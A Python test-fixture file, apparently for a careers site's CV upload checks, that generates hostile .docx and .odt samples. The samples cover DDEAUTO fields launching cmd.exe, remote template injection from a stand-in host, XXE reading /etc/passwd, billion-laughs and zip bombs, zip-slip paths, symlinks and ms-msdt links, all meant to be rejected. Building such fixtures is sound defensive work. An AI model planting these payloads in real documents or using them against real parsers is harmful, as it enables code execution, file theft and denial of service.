"""Word and OpenDocument files that run, load, hide or blow up."""

import io
import struct
import zipfile

from tests.careers.factories import DOCX_PARTS, ODT_PARTS, archive_bytes, docx_bytes
from tests.careers.uploads.corpus import SECRET, Hostile

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/package/2006/relationships"
TYPES = DOCX_PARTS["[Content_Types].xml"]
FAR = "http://a.example/x"


def made():
    yield from _macros()
    yield from _loading()
    yield from _objects()
    yield from _fields()
    yield from _bombs()
    yield from _xml()
    yield from _ways_out()
    yield from _opendocument()
    yield from _who()


def document(inside: str) -> str:
    return f'<w:document xmlns:w="{W}" xmlns:r="http://r"><w:body>{inside}</w:body></w:document>'


def relations(kind: str, target: str, mode="External") -> str:
    return (
        f'<Relationships xmlns="{R}"><Relationship Id="r9" Type="http://x/relationships/{kind}" Target="{target}" '
        f'TargetMode="{mode}"/></Relationships>'
    )


def _macros():
    for part in ("word/vbaProject.bin", "word/VBAPROJECT.BIN", "word/vbaData.xml", "word/activeX/activeX1.bin"):
        yield Hostile("macros", part, "cv.docx", docx_bytes(**{part: "x"}))
    for kind in ("document.macroEnabled.main+xml", "template.macroEnabledTemplate.main+xml"):
        types = TYPES.replace("</Types>", f"<!-- application/vnd.ms-word.{kind} --></Types>")
        yield Hostile("macros", kind, "cv.docx", docx_bytes(**{"[Content_Types].xml": types}))


def _loading():
    for kind in ("attachedTemplate", "image", "oleObject", "frame", "subDocument", "aFChunk", "video"):
        for place in ("settings", "document"):
            part = {f"word/_rels/{place}.xml.rels": relations(kind, FAR)}
            yield Hostile("template injection", f"{kind} from {place}", "cv.docx", docx_bytes(**part))
    for target in ("file://a.example/share/x.dotm", "\\\\a.example\\share\\x", "ms-msdt:/id"):
        part = {"word/_rels/document.xml.rels": relations("image", target)}
        yield Hostile("template injection", target[:8], "cv.docx", docx_bytes(**part))
    for target in ("javascript:alert(1)", "file:///c:/x.exe", "search-ms:query=x", "\\\\a.example\\x"):
        part = {"word/_rels/document.xml.rels": relations("hyperlink", f"{target}{SECRET.decode()}")}
        yield Hostile("links to programs", target[:10], "cv.docx", docx_bytes(**part))


def _objects():
    for part in ("word/embeddings/oleObject1.bin", "word/embeddings/Microsoft_Excel.xlsx", "word/oleObject.bin"):
        yield Hostile("OLE object", part, "cv.docx", docx_bytes(**{part: "x"}))
    for name in ("object", "altChunk", "control", "subDoc"):
        part = {"word/document.xml": document(f"<w:p><w:r><w:{name}/></w:r></w:p>")}
        yield Hostile("OLE object", f"w:{name}", "cv.docx", docx_bytes(**part))


def field(*pieces: str) -> str:
    return document("<w:p>" + "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces) + "</w:p>")


def _fields():
    command = r" c:\\windows\\system32\\cmd.exe /k calc"
    for name, pieces in (
        ("DDE", ("DDE" + command,)),
        ("DDEAUTO", ("DDEAUTO" + command,)),
        ("in pieces", ("D", "DE", "AUTO" + command)),
        ("small letters", ("ddeauto" + command,)),
        ("in numbers", ("QUOTE 68 68 69 32 99",)),
        ("INCLUDETEXT", (f"INCLUDETEXT {FAR}",)),
        ("INCLUDEPICTURE", (f'INCLUDEPICTURE "{FAR}" \\d',)),
        ("LINK", ("LINK Excel.Sheet",)),
    ):
        yield Hostile("DDE field", name, "cv.docx", docx_bytes(**{"word/document.xml": field(*pieces)}))
    simple = document('<w:p><w:fldSimple w:instr="DDEAUTO c:\\cmd.exe"/></w:p>')
    yield Hostile("DDE field", "simple field", "cv.docx", docx_bytes(**{"word/document.xml": simple}))
    header = field("DDEAUTO x").replace("document", "hdr").replace("w:body", "w:p")
    yield Hostile("DDE field", "in a header", "cv.docx", docx_bytes(**{"word/header1.xml": header}))


def _bombs():
    zeros = b"\x00" * 60_000_000
    yield Hostile("zip bomb, flat", "one part", "cv.docx", docx_bytes(**{"word/media/a.png": zeros[:20_000_000]}))
    yield Hostile("zip bomb, flat", "the document", "cv.docx", docx_bytes(**{"word/document.xml": zeros}))
    many = {f"word/part{number}.xml": "x" for number in range(300)}
    yield Hostile("zip bomb, flat", "many parts", "cv.docx", docx_bytes(**many))
    inner = archive_bytes({"a.txt": b"\x00" * 1_000_000})
    for name in ("inner.zip", "inner.docx", "inner.jar", "inner.gz"):
        yield Hostile("zip bomb, nested", name, "cv.docx", docx_bytes(**{f"word/{name}": inner}))
    yield Hostile("zip bomb, overlapping", "one body for all", "cv.docx", overlapping())
    yield Hostile("zip bomb, overlapping", "twice the same name", "cv.docx", same_name())
    yield Hostile("too much XML", "paragraphs", "cv.docx", docx_bytes(**{"word/document.xml": paragraphs(3_000_000)}))
    yield Hostile("too much XML", "depth", "cv.docx", docx_bytes(**{"word/document.xml": document(deep("w:p"))}))
    content = "<x " + " ".join(f'a{number}="1"' for number in range(300_000)) + "/>"
    yield Hostile("too much XML", "attributes", "cv.docx", docx_bytes(**{"word/document.xml": document(content)}))


def paragraphs(number: int) -> str:
    return document("<w:p/>" * number)


def deep(name: str, depth=5000) -> str:
    return f"<{name}>" * depth + f"</{name}>" * depth


def overlapping() -> bytes:
    """Each entry of the list names the first body."""
    content = bytearray(docx_bytes(**{"word/a.xml": "a" * 50, "word/b.xml": "b" * 50}))
    first = content.index(b"PK\x01\x02")
    at = content.index(b"PK\x01\x02", first + 4)
    while at > 0:
        content[at + 42 : at + 46] = struct.pack("<I", 0)
        at = content.find(b"PK\x01\x02", at + 4)
    return bytes(content)


def same_name() -> bytes:
    made_of = io.BytesIO(docx_bytes())
    with zipfile.ZipFile(made_of, "a") as archive:
        archive.writestr("word/media/a.xml", "1")
        archive.writestr("word/media/b.xml", "2")
    return made_of.getvalue().replace(b"word/media/b.xml", b"word/media/a.xml")


def _xml():
    laughs = "".join(f'<!ENTITY a{n + 1} "&a{n};&a{n};&a{n};&a{n};">' for n in range(15))
    bomb = f'<!DOCTYPE x [<!ENTITY a0 "ha">{laughs}]>'
    outside = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    for part in ("word/document.xml", "word/styles.xml", "[Content_Types].xml", "word/_rels/document.xml.rels"):
        body = DOCX_PARTS.get(part) or (relations("hyperlink", FAR) if part.endswith("rels") else document(""))
        for name, head in (("laughs", bomb), ("from outside", outside), ("far away", f'<!DOCTYPE x SYSTEM "{FAR}">')):
            yield Hostile("XML entity", f"{name} in {part}", "cv.docx", docx_bytes(**{part: head + body}))
    wide = (bomb + document("&a15;")).encode("utf-16")
    yield Hostile("XML entity", "two bytes a letter", "cv.docx", docx_bytes(**{"word/document.xml": wide}))


def _ways_out():
    for name in ("../../etc/cron.d/x", "/etc/passwd", "..\\..\\x.exe", "C:\\x.exe", "word/../../x"):
        yield Hostile("zip-slip", name, "cv.docx", docx_bytes(**{name: "x"}))
    for target in ("/etc/passwd", "../../secret"):
        made_of = io.BytesIO(docx_bytes())
        with zipfile.ZipFile(made_of, "a") as archive:
            entry = zipfile.ZipInfo("word/link")
            entry.external_attr = 0o120777 << 16
            archive.writestr(entry, target)
        yield Hostile("symlink in a zip", target, "cv.docx", made_of.getvalue())


OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"


def odt_bytes(inside="", **changed) -> bytes:
    spaces = {
        "office": OFFICE,
        "text": OFFICE.replace("office:1", "text:1"),
        "draw": OFFICE.replace("office:1", "drawing:1"),
        "script": OFFICE.replace("office:1", "script:1"),
        "xlink": "http://www.w3.org/1999/xlink",
    }
    named = " ".join(f'xmlns:{name}="{space}"' for name, space in spaces.items())
    body = f"<office:document-content {named}><office:body><office:text>{inside}</office:text></office:body>"
    return archive_bytes({**ODT_PARTS, "content.xml": f"{body}</office:document-content>", **changed})


def _opendocument():
    for part in ("Basic/Standard/Module1.xml", "Scripts/python/x.py"):
        yield Hostile("macros", f"OpenDocument {part}", "cv.odt", odt_bytes(**{part: "x"}))
    for name, inside in (
        ("event", '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/>'),
        ("script", "<script:script>x</script:script>"),
        ("OLE", '<draw:object-ole xlink:href="x"/>'),
        ("applet", "<draw:applet/>"),
        ("plug-in", "<draw:plugin/>"),
        ("frame", f'<draw:floating-frame xlink:href="{FAR}"/>'),
    ):
        yield Hostile("OpenDocument that runs", name, "cv.odt", odt_bytes(inside))
    for target in (FAR, "file:///etc/passwd", "//a.example/x", "../../x", "/etc/passwd"):
        inside = f'<draw:image xlink:href="{target}"/>'
        yield Hostile("OpenDocument that loads", target, "cv.odt", odt_bytes(inside))
    yield Hostile("encrypted Office", "OpenDocument", "cv.odt", odt_bytes(**{
        "META-INF/manifest.xml": "<manifest:encryption-data/>"
    }))  # fmt: skip


def _who():
    core = f"<cp xmlns='http://c'><creator>{SECRET.decode()}</creator></cp>"
    for part in ("docProps/core.xml", "docProps/app.xml", "docProps/custom.xml", "customXml/item1.xml"):
        yield Hostile("who made it", part, "cv.docx", docx_bytes(**{part: core}))
    for part in ("word/people.xml", "docProps/thumbnail.jpeg"):
        yield Hostile("who made it", part, "cv.docx", docx_bytes(**{part: core}))
    change = f'<w:p><w:ins w:author="{SECRET.decode()}"><w:r><w:t>Hei</w:t></w:r></w:ins></w:p>'
    yield Hostile("who made it", "tracked change", "cv.docx", docx_bytes(**{"word/document.xml": document(change)}))
    gone = f"<w:p><w:del w:author='A'><w:r><w:delText>{SECRET.decode()}</w:delText></w:r></w:del></w:p>"
    yield Hostile("who made it", "deleted words", "cv.docx", docx_bytes(**{"word/document.xml": document(gone)}))
    meta = f"<office:document-meta xmlns:office='{OFFICE}'>{SECRET.decode()}</office:document-meta>"
    yield Hostile("who made it", "OpenDocument", "cv.odt", odt_bytes(**{"meta.xml": meta}))
    yield Hostile("who made it", "thumbnail", "cv.odt", odt_bytes(**{"Thumbnails/thumbnail.png": SECRET}))
